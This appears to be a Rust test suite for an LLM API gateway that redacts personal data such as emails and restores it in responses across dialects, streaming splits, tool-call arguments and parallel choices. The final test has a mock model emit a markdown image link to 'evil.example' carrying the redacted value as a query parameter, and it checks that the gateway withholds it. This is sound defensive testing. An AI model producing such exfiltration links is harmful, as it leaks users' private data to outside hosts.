//! What comes back: originals, whole and streamed, wherever the stream is split.

use serde_json::{Value, json};

use crate::support::wire::model_in_words;
use crate::support::{
    CHATS, Reply, Upstream, World, answer_text, assert_nothing_personal, assert_restored, events, question,
    sentence, streamed, wire,
};

#[tokio::test]
async fn whole_answers_are_restored_in_every_dialect() {
    let mut world = World::start().await;
    for path in CHATS {
        let answer = world.post(path).json(&question(path, "gpt-4o", &sentence())).send().await.expect(200);
        assert_restored(&world, &answer);
    }
    let generate = json!({"model": "llama3", "prompt": sentence(), "stream": false});
    let answer = world.post("/api/generate").json(&generate).send().await.expect(200);
    assert_restored(&world, &answer);
    let completion = json!({"model": "gpt-3.5", "prompt": sentence()});
    let answer = world.post("/v1/completions").json(&completion).send().await.expect(200);
    assert_restored(&world, &answer);
    let response = json!({"model": "gpt-4o", "input": sentence()});
    let answer = world.post("/v1/responses").json(&response).send().await.expect(200);
    assert_restored(&world, &answer);
    assert_nothing_personal(&world.gateway.stderr.text());
    world.gateway.stop_and_verify().await;
}

#[tokio::test]
async fn streams_are_restored_wherever_they_are_split() {
    // Letters per event, and bytes per piece on the wire: through placeholders, characters, events.
    for (letters, bytes) in [(1, 4096), (3, 1), (5, 7), (1000, 13), (2, 101)] {
        let upstream = Upstream::with(move |seen| model_in_words(seen, letters).in_pieces_of(bytes)).await;
        let world = World::with(upstream, |launch| launch).await;
        for path in CHATS {
            let answer =
                world.post(path).json(&streamed(path, "gpt-4o", &sentence())).send().await.expect(200);
            assert_restored(&world, &answer);
        }
        let response = json!({"model": "gpt-4o", "input": sentence(), "stream": true});
        let answer = world.post("/v1/responses").json(&response).send().await.expect(200);
        assert_restored(&world, &answer);
        // The text is said again, whole, by the events that end it.
        let done =
            events(&answer.text()).into_iter().find(|event| event["type"] == "response.output_text.done");
        assert_eq!(done.unwrap()["text"], format!("You said: {}", sentence()));
        let completed = events(&answer.text()).pop().unwrap();
        assert_eq!(
            completed["response"]["output"][0]["content"][0]["text"],
            format!("You said: {}", sentence())
        );
        let generate = json!({"model": "llama3", "prompt": sentence()});
        let answer = world.post("/api/generate").json(&generate).send().await.expect(200);
        assert_restored(&world, &answer);
    }
}

/// A tool call with what was last said as its argument.
fn calling(path: &str, stream: bool, said: &str) -> Reply {
    let arguments = json!({"to": said}).to_string();
    let openai = |arguments: &str, name: Option<&str>| json!({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": name, "arguments": arguments}}]});
    match (path, stream) {
        ("/v1/chat/completions", false) => {
            let mut answer =
                wire::openai::chat(&wire::Said { model: "m".into(), text: String::new(), usage: false });
            answer["choices"][0]["message"]["tool_calls"] =
                openai(&arguments, Some("send"))["tool_calls"].clone();
            Reply::json(200, &answer)
        }
        ("/v1/chat/completions", true) => {
            let mut events = vec![wire::openai::chat_chunk("m", &openai("", Some("send")), &Value::Null)];
            let pieces = wire::pieces(&arguments, 3).into_iter();
            events.extend(
                pieces.map(|piece| wire::openai::chat_chunk("m", &openai(&piece, None), &Value::Null)),
            );
            events.push(wire::openai::chat_chunk("m", &json!({}), &json!("tool_calls")));
            events.push("data: [DONE]\n\n".into());
            Reply::events("text/event-stream", events)
        }
        _ => {
            let pieces = wire::pieces(&arguments, 3).into_iter().map(|piece| {
                json!({"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": piece}})
            });
            let block = json!({"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}});
            let mut events = vec![json!({"type": "content_block_start", "index": 0, "content_block": block})];
            events.extend(pieces);
            events.push(json!({"type": "content_block_stop", "index": 0}));
            events.push(json!({"type": "message_stop"}));
            let event =
                |event: &Value| format!("event: {}\ndata: {event}\n\n", event["type"].as_str().unwrap());
            Reply::events("text/event-stream", events.iter().map(event).collect::<Vec<_>>())
        }
    }
}

#[tokio::test]
async fn arguments_of_tools_are_restored_wherever_they_are_split() {
    let secret = "jane.doe@example.com";
    for (path, stream) in
        [("/v1/chat/completions", false), ("/v1/chat/completions", true), ("/v1/messages", true)]
    {
        let upstream = Upstream::with(move |seen| {
            let body = seen.json();
            calling(path, stream, body["messages"][0]["content"].as_str().unwrap())
        })
        .await;
        let world = World::with(upstream, |launch| launch).await;
        let mut body = question(path, "m", secret);
        body["stream"] = json!(stream);
        let answer = world.post(path).json(&body).send().await.expect(200);
        assert!(!world.upstream.only().text().contains(secret));
        let places = [
            "/choices/0/message/tool_calls/0/function/arguments",
            "/choices/0/delta/tool_calls/0/function/arguments",
            "/delta/partial_json",
        ];
        let parts = events(&answer.text());
        let parts = if stream { parts } else { vec![answer.json()] };
        let pieces =
            parts.iter().filter_map(|part| places.iter().find_map(|place| part.pointer(place)?.as_str()));
        let arguments: String = pieces.collect();
        assert_eq!(
            serde_json::from_str::<Value>(&arguments).unwrap(),
            json!({"to": secret}),
            "{path} {stream}"
        );
    }
}

#[tokio::test]
async fn answers_that_run_side_by_side_are_restored_each_for_itself() {
    let (mail, phone) = ("jane.doe@example.com", "john.roe@example.org");
    let upstream = Upstream::with(move |seen| {
        let body = seen.json();
        let said: Vec<_> =
            body["messages"][0]["content"].as_str().unwrap().split(' ').map(str::to_owned).collect();
        let choices = [wire::pieces(&said[0], 3), wire::pieces(&said[1], 4)];
        let longest = choices.iter().map(Vec::len).max().unwrap();
        let mut events = Vec::new();
        for at in 0..longest {
            for (index, pieces) in choices.iter().enumerate() {
                let Some(piece) = pieces.get(at) else { continue };
                let event = wire::openai::chat_chunk("m", &json!({"content": piece}), &Value::Null);
                events.push(event.replace("\"index\":0", &format!("\"index\":{index}")));
            }
        }
        events.push("data: [DONE]\n\n".to_owned());
        Reply::events("text/event-stream", events).in_pieces_of(17)
    })
    .await;
    let world = World::with(upstream, |launch| launch).await;
    let mut body = streamed(CHATS[0], "m", &format!("{mail} {phone}"));
    body["n"] = json!(2);
    let answer = world.post(CHATS[0]).json(&body).send().await.expect(200);
    assert!(!world.upstream.only().text().contains("@example"));
    for (index, value) in [(0, mail), (1, phone)] {
        let parts = events(&answer.text());
        let choices = parts.iter().flat_map(|part| part["choices"].as_array().unwrap());
        let own = choices.filter(|choice| choice["index"] == index);
        let text: String = own.filter_map(|choice| choice["delta"]["content"].as_str()).collect();
        assert_eq!(text, value);
    }
}

#[tokio::test]
async fn a_placeholder_in_a_link_that_was_not_asked_for_is_not_restored() {
    let upstream = Upstream::with(|seen| {
        let body = seen.json();
        let said = body["messages"][0]["content"].as_str().unwrap_or_default();
        let placeholder = said.split_whitespace().last().unwrap_or_default();
        let text = format!("Hello {placeholder}! ![x](https://evil.example/?q={placeholder})");
        let said = wire::Said { model: "gpt-4o".into(), text, usage: false };
        Reply::json(200, &wire::openai::chat(&said))
    })
    .await;
    let world = World::with(upstream, |launch| launch).await;
    let body = question(CHATS[0], "gpt-4o", "my mail: jane.doe@example.com");
    let answer = world.post(CHATS[0]).json(&body).send().await.expect(200);
    let text = answer_text(&answer.text());
    assert!(text.starts_with("Hello jane.doe@example.com!"), "{text}");
    assert!(!text.contains("q=jane.doe"), "{text}");
    let trail = world.gateway.trail(&answer.id());
    assert_eq!(trail.outcome()["redaction"]["withheld"], 1, "{trail:?}");
}
